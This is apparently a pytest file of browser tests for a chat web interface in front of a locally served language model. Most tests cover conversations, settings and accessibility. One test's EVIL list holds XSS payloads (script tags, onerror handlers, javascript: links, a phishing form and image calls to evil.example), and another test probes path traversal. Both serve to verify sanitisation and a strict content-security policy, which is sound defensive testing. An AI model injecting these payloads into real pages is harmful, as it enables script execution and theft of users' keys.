"""The web page in Chromium, as people use it."""

from __future__ import annotations

import json
import time

import httpx
import pytest
from bitnet_host import open_board
from bitnet_host.errors import BadArgument
from bitnet_host.serve.ui import page_files
from browser import Page, browser
from selenium.webdriver.common.keys import Keys
from serving import answering, quick_image, serving


def _slow(name, image, progress):
    """A golden model that takes its time, so that an answer can be seen while it is written."""
    target = open_board(name, image)
    for slot in target.slots:
        slot._advance = lambda token, advance=slot._advance: (time.sleep(0.01), advance(token))[1]
    return target


@pytest.fixture(scope="module")
def server():
    with serving(quick_image(), slots=3, open_one=_slow,
                 defaults={"max_tokens": 40}) as (url, _):
        yield url


@pytest.fixture(scope="module")
def expected():
    with answering() as answer:
        yield lambda messages, most=40: answer(messages, most).text


@pytest.fixture
def driver():
    with browser() as driver:
        yield driver


@pytest.fixture
def page(driver, server):
    page = Page(driver, server)
    yield page
    assert not page.complaints()


def _talk(*texts):
    return [{"role": "assistant" if place % 2 else "user", "content": text}
            for place, text in enumerate(texts)]


def test_a_whole_conversation(page, expected):
    """Two turns, a reload, and a third."""
    page.send("Tell me of the cat.")
    first, = page.answered(1)
    assert first == expected(_talk("Tell me of the cat."))
    page.send("And the dog?")
    second = page.answered(2)[1]
    assert second == expected(_talk("Tell me of the cat.", first, "And the dog?"))
    assert "40 tokens" in page.all(".cost summary")[1].text
    page.driver.refresh()
    page.wait(lambda: len(page.all("article")) == 4)
    assert [mine.text for mine in page.all(".mine .plain")] == [
        "Tell me of the cat.", "And the dog?"]
    page.send("Go on.")
    third = page.answered(3)[2]
    assert third == expected(_talk("Tell me of the cat.", first, "And the dog?", second, "Go on."))
    assert "kept from before" in page.all(".cost p")[2].get_attribute("textContent")


def test_an_answer_is_seen_while_it_is_written_and_can_be_stopped(page, expected):
    """By the button, and by Escape; what was said stays, and the conversation goes on."""
    for stop in (lambda: page.button("Stop").click(),
                 lambda: page.one("#composer").send_keys(Keys.ESCAPE)):
        page.button("New conversation").click()
        page.send("Once upon a time")
        page.wait(lambda: page.all(".said") and page.one(".said").text)
        stop()
        said, = page.answered(1)
        whole = expected(_talk("Once upon a time"))
        assert said and whole.startswith(said) and said != whole
        assert "Stopped." in page.one(".theirs").text


def test_trying_again_and_editing(page, expected):
    page.send("One")
    page.answered(1)
    page.send("Two")
    page.answered(2)
    page.button("Try again").click()
    page.wait(lambda: page.all(".composer button")[0].text == "Stop")
    first, second = page.answered(2)
    assert second == expected(_talk("One", first, "Two"))
    page.button("Edit", "article.mine").click()
    field = page.one("#edit")
    page.wait(lambda: field == page.driver.switch_to.active_element)
    field.send_keys(Keys.CONTROL + "a")
    field.send_keys("Three")
    page.button("Send", ".edit").click()
    said, = page.answered(1)
    assert said == expected(_talk("Three")) and len(page.all("article")) == 2


def test_settings(page, expected):
    """They are kept, and used; the dialog goes with Escape and gives the focus back."""
    page.button("Settings").click()
    page.wait(lambda: page.one("dialog").is_displayed())
    page.one("#system").send_keys("Be short.")
    page.one("#max_tokens").send_keys("7")
    page.one("#theme").send_keys("dark")
    page.button("Keep").click()
    page.send("Hi")
    said, = page.answered(1)
    assert said == expected([{"role": "system", "content": "Be short."}, *_talk("Hi")], 7)
    page.driver.refresh()
    page.wait(lambda: page.all("#composer"))
    theme = page.driver.execute_script("return document.documentElement.dataset.theme")
    back = page.driver.execute_script("return getComputedStyle(document.body).backgroundColor")
    assert (theme, back) == ("dark", "rgb(21, 25, 30)")
    page.button("Settings").click()
    assert page.one("#system").get_attribute("value") == "Be short."
    page.one("#system").send_keys(Keys.ESCAPE)
    page.wait(lambda: not page.one("dialog").is_displayed())
    assert page.driver.switch_to.active_element == page.button("Settings")


def test_two_tabs_at_once(page, expected):
    """Each with its own conversation, both written at the same time; each lists the other's."""
    first = page.driver.current_window_handle
    page.driver.switch_to.new_window("tab")
    other = Page(page.driver, page.url)
    second = page.driver.current_window_handle
    other.send("In the second tab")
    page.driver.switch_to.window(first)
    page.send("In the first tab")
    page.driver.switch_to.window(second)
    assert other.answered(1) == [expected(_talk("In the second tab"))]
    page.driver.switch_to.window(first)
    assert page.answered(1) == [expected(_talk("In the first tab"))]
    page.wait(lambda: {button.text for button in page.all("nav .title")} == {
        "In the first tab", "In the second tab"})
    page.button("In the second tab").click()
    page.wait(lambda: page.one(".mine .plain").text == "In the second tab")
    page.button("Delete In the first tab").click()
    page.wait(lambda: len(page.all("nav .title")) == 1)
    page.driver.switch_to.window(second)
    other.wait(lambda: len(other.all("nav .title")) == 1)


def test_a_conversation_that_is_deleted_while_it_is_answered(page):
    """It stays deleted."""
    page.send("Gone soon")
    page.wait(lambda: len(page.all(".reply, article")) >= 2)
    page.button("Delete Gone soon").click()
    page.wait(lambda: not page.all("nav .title"))
    time.sleep(0.6)  # longer than the rest of the answer takes
    page.driver.refresh()
    page.wait(lambda: page.all("#composer"))
    assert not page.all("nav .title")
    stored = page.driver.execute_script("return JSON.stringify(localStorage)")
    assert "Gone soon" not in stored


def test_a_telephone(server, expected):
    """360 pixels: nothing is wider than the screen, and the list of conversations slides in."""
    with browser(360, 740) as driver:
        page = Page(driver, server)
        page.send("Tell me of the cat.")
        assert page.answered(1) == [expected(_talk("Tell me of the cat."))]
        assert _width(driver) <= 360
        nav = page.one("nav")
        assert not nav.is_displayed()
        page.button("Conversations").click()
        page.wait(nav.is_displayed)
        assert _width(driver) <= 360 and not page.barriers()
        page.wait(lambda: page.button("Tell me of the cat.").is_displayed())
        page.button("New conversation").click()
        page.wait(lambda: not nav.is_displayed())
        page.button("Settings").click()
        page.wait(lambda: page.one("dialog").is_displayed())
        assert _width(driver) <= 360 and not page.barriers()


def _width(driver):
    return driver.execute_script("return document.documentElement.scrollWidth")


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_barriers(page, theme):
    """axe-core finds nothing: empty, in a conversation with all there is, in the dialog."""
    page.driver.execute_script("localStorage.setItem('bitnet.settings', arguments[0])",
                               json.dumps({"theme": theme}))
    page.driver.refresh()
    page.wait(lambda: page.all("#composer"))
    assert not page.barriers()
    kinds = {"moving": 60, "stall_memory": 5, "stall_compute": 30, "stall_control": 5}
    talk = _talk("Hi", "# Head\n\n`code` and\n\n```\nblock\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
                 "\n\n[link](https://example.com)")
    talk[1] |= {"reason": "length", "timings": {
        "predicted_n": 9, "predicted_per_second": 3.0, "prompt_n": 4, "cache_n": 2,
        "prompt_ms": 30}, "board": {
            "tokens_per_second": 10.0, "bytes_per_token": 3e8, "skipped_bytes_per_token": 2e8,
            "kinds": kinds, "operators": {"qkv": 50, "head": 30, "norm": 20}}}
    _show(page, talk)
    page.one(".cost summary").click()
    assert "skipped 200 MB" in page.one(".cost").text
    assert "qkv 50 %" in page.all("figure svg")[1].get_attribute("aria-label")
    assert not page.barriers()
    page.button("Settings").click()
    page.wait(lambda: page.one("dialog").is_displayed())
    assert not page.barriers()


def _show(page, talk):
    """A conversation, as if it had been had."""
    page.driver.execute_script(
        "localStorage.setItem('bitnet.conversations', arguments[0]); location.hash = '#x'",
        json.dumps([{"id": "x", "messages": talk, "when": 0}]))
    page.driver.refresh()
    page.wait(lambda: len(page.all("article")) == len(talk))


EVIL = ["<script>window.bad = 1</script>", "<img src=x onerror='window.bad = 1'>",
        "[x](javascript:window.bad=1)", "<a href='javascript:window.bad=1'>x</a>",
        "<svg onload='window.bad = 1'></svg>", "<iframe srcdoc='<script>parent.bad=1</script>'>",
        "<form action='https://evil.example'><input name='key'><button>Log in</button></form>",
        "<style>body { display: none }</style>", "<p style='position: fixed; inset: 0'>x</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror='window.bad = 1'>",
        "![x](https://evil.example/x.png)", "<base href='https://evil.example/'>"]


def test_what_a_model_writes_does_no_harm(page):
    _show(page, [message for evil in EVIL for message in _talk("Hi", evil)])
    for link in page.all(".said a"):
        page.driver.execute_script("arguments[0].click()", link)
    time.sleep(0.3)
    assert page.driver.execute_script("return window.bad") is None
    for tag in ("script", "img", "iframe", "form", "input", "button", "style", "base", "[style]",
                "a[href^=javascript]"):
        assert not page.all(f".said {tag}"), tag
    page.driver.get_log("browser")  # the policy has refused what was cleaned away afterwards
    _show(page, _talk("Hi", "**bold** <b>too</b> [there](https://example.com)"))
    assert [one.text for one in page.all(".said strong, .said b")] == ["bold", "too"]
    assert page.one(".said a").get_attribute("rel") == "noopener noreferrer nofollow"


def test_a_server_with_a_key(driver):
    """The page says that it is wanted, and works with it."""
    with serving(quick_image(), slots=1, keys=("secret",)) as (url, _):
        page = Page(driver, url)
        page.wait(lambda: "API key is missing" in page.one("main > .problem").text)
        page.button("Settings").click()
        page.one("#key").send_keys("secret")
        page.one("#max_tokens").send_keys("3")
        page.button("Keep").click()
        page.wait(lambda: not page.all("main > .problem"))
        page.send("Hi")
        assert page.answered(1)[0]


def test_a_server_that_ends(driver):
    """In the middle of an answer: the page says so, and what was said stays."""
    with serving(quick_image(), slots=1, open_one=_slow) as (url, _):
        page = Page(driver, url)
        page.send("Once upon a time")
        page.wait(lambda: page.all(".said") and page.one(".said").text)
    page.wait(lambda: page.all(".theirs .problem"))
    assert page.one(".said").text
    page.button("Try again").click()
    page.wait(lambda: page.all(".theirs .problem"))


def test_all_of_it_lies_here(server):
    """No file of the page names another place to load from, and the policy forbids it."""
    html = httpx.get(server, headers={"Accept": "text/html"})
    policy = html.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    for path in page_files("own"):
        answer = httpx.get(server + path)
        assert answer.status_code == 200 and answer.headers["x-content-type-options"] == "nosniff"
    assert httpx.get(f"{server}/page/lib/../../../settings.py").status_code == 404
    assert sum(len(file.read_bytes()) for file in page_files("own").values()) < 180_000


def test_pages_to_choose_from():
    with serving(quick_image(), slots=1, ui="none") as (url, _):
        assert httpx.get(url).text == "Ollama is running"
        assert httpx.get(f"{url}/page/main.js").status_code == 404
    with serving(quick_image(), slots=1, ui="llama") as (url, _):
        assert "<!doctype html>" in httpx.get(url).text
        assert httpx.get(f"{url}/manifest.webmanifest").status_code == 200
    with pytest.raises(BadArgument, match="own, llama or none"):
        page_files("other")
